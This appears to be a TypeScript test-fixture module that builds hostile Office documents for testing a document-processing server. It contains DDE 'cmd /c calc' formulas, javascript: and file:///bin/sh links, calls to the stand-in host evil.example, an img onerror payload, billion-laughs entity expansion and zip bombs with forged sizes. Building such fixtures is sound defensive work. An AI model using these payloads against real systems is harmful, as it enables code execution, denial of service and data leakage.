import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import {
  makeDocx,
  makePptx,
  makeXlsx,
  type SampleDocument,
} from '#server/testing/sample-documents/sample-documents.ts';
import { ATTACK_SCRIPT, OFFICE_RELATIONSHIPS } from './malicious-documents.ts';

const EMPTY_CONTENT_TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>';
const DRAWING_NAMESPACE = 'http://schemas.openxmlformats.org/drawingml/2006/main';
const MIB = 1024 * 1024;

const relationshipsXml = (
  ...all: readonly (readonly [id: string, type: string, target: string, mode?: string])[]
) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${all
    .map(
      ([id, type, target, mode]) =>
        `<Relationship Id="${id}" Type="${OFFICE_RELATIONSHIPS}/${type}" Target="${target}"${mode ? ` TargetMode="${mode}"` : ''}/>`,
    )
    .join('')}</Relationships>`;

function zipParts(name: string, parts: Record<string, string | Uint8Array>): SampleDocument {
  const bytes = Object.entries(parts).map(([path, part]) => [
    path,
    typeof part === 'string' ? strToU8(part) : part,
  ]);
  return {
    name,
    mimeType: 'application/octet-stream',
    buffer: Buffer.from(zipSync(Object.fromEntries(bytes))),
  };
}

/** Slides with a macro, external images and video, a program to start and script links. */
export function makeMaliciousPptx(): SampleDocument {
  const click = (id: string, action = '') =>
    `<p:cNvPr id="2" name="x"><a:hlinkClick r:id="${id}" action="${action}"/></p:cNvPr><p:cNvSpPr/><p:nvPr/>`;
  const alert = '<p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="3000000" cy="900000"/></a:xfrm></p:spPr>';
  const shape = (head: string, text: string, run = '') =>
    `<p:sp><p:nvSpPr>${head}</p:nvSpPr>${alert}<p:txBody><a:bodyPr/><a:p><a:r><a:rPr>${run}</a:rPr><a:t>${text}</a:t></a:r></a:p></p:txBody></p:sp>`;
  const makeImageShape = (fill: string) =>
    `<p:pic><p:nvPicPr><p:cNvPr id="3" name="p"/><p:cNvPicPr/><p:nvPr><a:videoFile r:link="film"/></p:nvPr></p:nvPicPr><p:blipFill><a:blip r:${fill}="far"/></p:blipFill>${alert}</p:pic>`;
  return zipParts('hostile.pptm', {
    '[Content_Types].xml': EMPTY_CONTENT_TYPES,
    '_rels/.rels': relationshipsXml(['r1', 'officeDocument', 'ppt/presentation.xml']),
    'ppt/presentation.xml': `<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:r="${OFFICE_RELATIONSHIPS}"><p:sldIdLst><p:sldId id="256" r:id="r1"/></p:sldIdLst></p:presentation>`,
    'ppt/_rels/presentation.xml.rels': relationshipsXml(
      ['r1', 'slide', 'slides/slide1.xml'],
      ['r2', 'vbaProject', 'vbaProject.bin'],
    ),
    'ppt/vbaProject.bin': ATTACK_SCRIPT,
    'ppt/slides/slide1.xml': `<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="${DRAWING_NAMESPACE}" xmlns:r="${OFFICE_RELATIONSHIPS}"><p:cSld><p:spTree>${[
      shape(click('script'), 'quiet text', '<a:hlinkClick r:id="script"/>'),
      shape(
        click('program', 'ppaction://program'),
        'start',
        '<a:latin typeface="x; } @import url(//evil.example/f)"/>',
      ),
      makeImageShape('link'),
      makeImageShape('embed'),
    ].join('')}</p:spTree></p:cSld></p:sld>`,
    'ppt/slides/_rels/slide1.xml.rels': relationshipsXml(
      ['script', 'hyperlink', `javascript:${ATTACK_SCRIPT}`, 'External'],
      ['program', 'hyperlink', 'file:///bin/sh', 'External'],
      ['far', 'image', 'https://evil.example/p.png', 'External'],
      ['film', 'video', 'https://evil.example/v.mp4', 'External'],
    ),
  });
}

/** Cells that start a program, request another host or link to a script. */
export function makeMaliciousXlsx(): SampleDocument {
  const formula = (text: string) => `<c t="str"><f>${text}</f><v>quiet text</v></c>`;
  return zipParts('hostile.xlsm', {
    '[Content_Types].xml': EMPTY_CONTENT_TYPES,
    '_rels/.rels': relationshipsXml(['r1', 'officeDocument', 'xl/workbook.xml']),
    'xl/workbook.xml': `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${OFFICE_RELATIONSHIPS}"><sheets><sheet name="Sheet1" sheetId="1" r:id="r1"/></sheets><externalReferences><externalReference r:id="r2"/></externalReferences></workbook>`,
    'xl/_rels/workbook.xml.rels': relationshipsXml(
      ['r1', 'worksheet', 'worksheets/sheet1.xml'],
      ['r2', 'externalLink', 'externalLinks/externalLink1.xml'],
      ['r3', 'vbaProject', 'vbaProject.bin'],
    ),
    'xl/vbaProject.bin': ATTACK_SCRIPT,
    'xl/externalLinks/externalLink1.xml':
      '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
    'xl/worksheets/sheet1.xml': `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${OFFICE_RELATIONSHIPS}"><sheetData><row>${[
      formula(`HYPERLINK("javascript:${ATTACK_SCRIPT}","quiet text")`),
      formula("cmd|'/c calc'!A0"),
      formula('WEBSERVICE("https://evil.example/x")'),
      `<c t="inlineStr"><is><t>&lt;img src=x onerror="${ATTACK_SCRIPT}"&gt;</t></is></c>`,
    ].join('')}</row></sheetData><hyperlinks><hyperlink ref="A1" r:id="h1"/></hyperlinks></worksheet>`,
    'xl/worksheets/_rels/sheet1.xml.rels': relationshipsXml([
      'h1',
      'hyperlink',
      `javascript:${ATTACK_SCRIPT}`,
      'External',
    ]),
  });
}

/** Decompression bombs: packages with a false size and XML that expands. */
export function listDecompressionBombs(): SampleDocument[] {
  const entityBomb = `<!DOCTYPE l [<!ENTITY a0 "ha">${Array.from(
    { length: 30 },
    (_, at) => `<!ENTITY a${at + 1} "&a${at};&a${at};&a${at};">`,
  ).join('')}<!ENTITY x SYSTEM "https://evil.example/x.dtd">]>`;
  const inflate = (name: string, { buffer }: SampleDocument) =>
    zipParts(
      name,
      Object.fromEntries(
        Object.entries(unzipSync(buffer)).map(([path, bytes]) => {
          const xml = strFromU8(bytes);
          return [
            path,
            xml.includes('quiet text') ? entityBomb + xml.replace('quiet text', '&a30;&x;') : xml,
          ];
        }),
      ),
    );
  const zeros = zipParts('', {
    '[Content_Types].xml': EMPTY_CONTENT_TYPES,
    'word/document.xml': new Uint8Array(40 * MIB),
  });
  return [
    inflate('laughs.docx', makeDocx('', ['quiet text'])),
    inflate('laughs.pptx', makePptx('', ['quiet text'])),
    inflate('laughs.xlsx', makeXlsx('', [['quiet text']])),
    ...['says.docx', 'says.pptx', 'says.xlsx'].map((name) => withDeclaredSize(zeros, name, 2 ** 31)),
    ...['hides.docx', 'hides.pptx', 'hides.xlsx'].map((name) => withDeclaredSize(zeros, name, 100)),
  ];
}

/** Returns the package with a false size of its largest part in the central directory. */
function withDeclaredSize({ buffer, mimeType }: SampleDocument, name: string, size: number): SampleDocument {
  const copy = Buffer.from(buffer);
  copy.writeUInt32LE(size, copy.lastIndexOf(Buffer.from('PK\x01\x02', 'latin1')) + 24);
  return { name, mimeType, buffer: copy };
}
